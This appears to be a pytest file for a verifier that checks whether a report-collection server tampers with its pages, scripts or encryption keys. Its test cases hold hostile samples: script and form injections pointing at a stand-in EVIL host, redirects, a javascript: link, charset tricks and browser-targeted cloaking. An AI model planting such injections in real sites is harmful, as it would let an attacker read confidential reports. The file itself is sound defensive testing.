"""Lies of a server that would read a report before it is sealed: `suluh verify` names each of them."""

from __future__ import annotations

import itertools
import json
from functools import partial
from typing import TYPE_CHECKING

import pytest
from flask import request

from collector.core.age import hybrid_recipient
from collector.upkeep import fetching, verify
from tests.attacks.lying import EVIL, header, put_in

if TYPE_CHECKING:
    from collections.abc import Callable

    from flask import Response

    from collector.core.opening import HybridIdentity
    from collector.store import Store
    from collector.web.rendering import Announced
    from tests.attacks.lying import Lie


def put_json(value: object, response: Response) -> None:
    """A lie that is the whole answer."""
    response.set_data(json.dumps(value))


def test_an_honest_server_passes(faults: Callable[..., list[str]]) -> None:
    """Every file, every form page and the mailbox are what the source says, a packed sitemap among them."""
    assert faults() == []


def test_a_form_kept_shut_is_named(faults: Callable[..., list[str]], store: Store) -> None:
    """Whoever keeps a form shut, though officers are on duty and have keys, silences: its path is named, once."""
    store.close_form("laporan")
    assert {fault.partition(":")[0] for fault in faults()} == {"lapor"}


def test_a_form_that_has_no_readers_is_shut_rightly(faults: Callable[..., list[str]], said: Announced) -> None:
    """While the switch is shut, an honest server shows the page of a closed form; nothing is named."""
    object.__setattr__(said, "staffed", None)
    assert faults(staffed=None) == []


@pytest.mark.parametrize("path", ["/lapor", "/kotak"])
@pytest.mark.parametrize(
    "lie",
    [
        lambda response: response.set_data(f'<form action="{EVIL}"><textarea name=a></textarea></form>'),
        put_in(f'<base href="{EVIL}/">'),
        put_in(f'<iframe srcdoc="&lt;script src={EVIL}/a.js&gt;&lt;/script&gt;"></iframe>'),
        put_in(f'<meta http-equiv="refresh" content="0;url={EVIL}">'),
        put_in('<a href="javascript:alert(1)">Lanjut</a>'),
        put_in(f'<link rel="modulepreload" href="{EVIL}/a.js">'),
        put_in(f"<!--><script src={EVIL}/a.js></script><!-- -->"),
        lambda response: response.set_data(
            response.get_data() + b" " * fetching.LARGEST + f"<script src={EVIL}/a.js></script>".encode()
        ),
        header("Content-Type", "text/html; charset=iso-2022-jp"),
        header("Content-Encoding", "gzip"),
        header("Refresh", f"0;url={EVIL}"),
        header("Content-Disposition", "attachment; filename=lapor.html"),
        header("Link", f"<{EVIL}/a.js>; rel=modulepreload"),
        header("Set-Cookie", "who=1"),
        header("Service-Worker-Allowed", "/"),
        header("Clear-Site-Data", '"cookies"'),
        header("Alt-Svc", 'h2="evil.example:443"'),
        header("Content-Encoding", "br"),
        header("Content-Type", "text/html; charset=utf-8; charset=iso-2022-jp"),
        lambda response: response.headers.add("Content-Type", "text/html; charset=utf-7"),
        lambda response: response.headers.add("Content-Security-Policy", "default-src *"),
        lambda response: response.headers.update({"Location": EVIL}),
        lambda response: setattr(response, "status_code", 302),
        header("Content-Security-Policy", "default-src *"),
        lambda response: response.headers.pop("Content-Security-Policy"),
        lambda response: response.headers.add("Content-Security-Policy-Report-Only", f"report-uri {EVIL}"),
    ],
    ids=[
        "plain form", "base", "srcdoc", "meta refresh", "javascript", "modulepreload", "parser", "after 16 MiB",
        "charset", "encoding", "refresh", "download", "link", "cookie", "worker scope", "clears", "other server",
        "unknown packing", "two charsets", "two types", "two policies", "location", "redirect", "weak policy",
        "no policy", "reports",
    ],
)  # fmt: skip
def test_a_page_that_would_steal_a_report_is_named(faults: Callable[..., list[str]], path: str, lie: Lie) -> None:
    """One lie in the report's page or in the mailbox's, in its bytes or its headers, is found and named by its path."""
    found = faults(path, lie)
    assert found
    assert all(fault.startswith(path.lstrip("/") + ":") for fault in found)


@pytest.mark.parametrize(
    "asks",
    [
        lambda: "Android" in request.headers["User-Agent"],
        lambda: "Windows" in request.headers["Sec-Ch-Ua-Platform"],
        lambda: request.headers["Sec-Fetch-Dest"] == "document",
        lambda: "br" in request.headers["Accept-Encoding"],
        lambda: bool(request.query_string),
        lambda: request.headers["Sec-Fetch-Site"] == "same-origin",
        lambda: request.headers["Sec-Fetch-Site"] == "cross-site",
        lambda: request.headers["Nth"] != "1",
        partial(next, itertools.cycle([False, True])),
    ],
    ids=[
        "a phone",
        "a laptop",
        "a browser's page",
        "packing",
        "a link with a query",
        "our link",
        "a link elsewhere",
        "a kept line",
        "the second time",
    ],
)
def test_a_lie_for_browsers_alone_is_named(faults: Callable[..., list[str]], asks: Callable[[], bool]) -> None:
    """A server that lies only to some kind of browser, of link or of visit lies to the one who checks as well."""
    assert faults("/lapor", lambda response: response.set_data(b"lie") if asks() else None, twist=bytes)


@pytest.mark.parametrize(("target", "mode"), [("worker", "same-origin"), ("script", "no-cors"), ("script", "cors")])
def test_a_script_that_lies_to_one_loader_alone_is_named(
    faults: Callable[..., list[str]], target: str, mode: str
) -> None:
    """The sealing code is loaded as a worker: a server that lies only to that, or only to a page's script, is named."""

    def lie(response: Response) -> None:
        if (request.headers["Sec-Fetch-Dest"], request.headers["Sec-Fetch-Mode"]) == (target, mode):
            response.set_data(response.get_data() + b" ")

    assert any(fault.startswith("static/worker.js:") for fault in faults("/static/worker.js", lie))


def test_a_page_where_no_page_is_is_named(faults: Callable[..., list[str]]) -> None:
    """A form of somebody else's at an address that is typed nearly right, or a header beside our missing page."""
    for lie in (put_in("<form>"), header("Refresh", f"0;url={EVIL}")):
        assert any(fault.startswith(("lapor/:", "404.html:")) for fault in faults("/lapor/", lie))


@pytest.mark.parametrize(
    "lie",
    [
        header("Location", f"{EVIL}/cara/"),
        header("Location", "//evil.example/cara/"),
        header("Location", "/cara"),
        header("Set-Cookie", "who=1"),
        lambda response: setattr(response, "status_code", 200),
    ],
)
def test_an_address_without_its_last_stroke_that_leads_elsewhere_is_named(
    faults: Callable[..., list[str]], lie: Lie
) -> None:
    """It is typed from a poster: wherever it leads but to its page, or what it brings beside, is found."""
    found = faults("/cara", lie)
    assert found
    assert all(fault.startswith("cara:") for fault in found)


def test_a_cookie_beside_the_keys_is_named(faults: Callable[..., list[str]]) -> None:
    """A header that would know the reader again is found where no page is, too."""
    found = faults("/api/recipients", header("Set-Cookie", "who=1"))
    assert found
    assert all(fault.startswith(verify.KEYS + ":") for fault in found)


@pytest.mark.parametrize("path", ["/static/form.js", "/static/worker.js", "/static/forms.css", "/cara/"])
def test_one_byte_more_in_a_script_or_a_page_is_named(faults: Callable[..., list[str]], path: str) -> None:
    """The sealing code, which no form page holds itself, is compared whole, and so is every other file."""
    assert faults(path, lambda response: response.set_data(response.get_data() + b" "))


def test_keys_of_somebody_else_are_named(faults: Callable[..., list[str]], identity: HybridIdentity) -> None:
    """Another key, one more, or none: given beside honest pages, or named by the pages too."""
    stranger = hybrid_recipient(bytes(32))
    for keys in ([stranger], [identity.recipient, stranger], []):
        listed = {"recipients": [str(key) for key in keys]}
        found = faults("/api/recipients", partial(put_json, listed))
        assert {fault[: len(verify.KEYS)] for fault in found} == {verify.KEYS}
        assert len(faults(recipients=keys)) > 1


def test_without_an_announced_key_nothing_passes(faults: Callable[..., list[str]], said: Announced) -> None:
    """A server that has no key to be compared with fails, and is told why."""
    object.__setattr__(said, "keys", [])
    assert any("Belum ada kunci" in fault for fault in faults(recipients=[]))
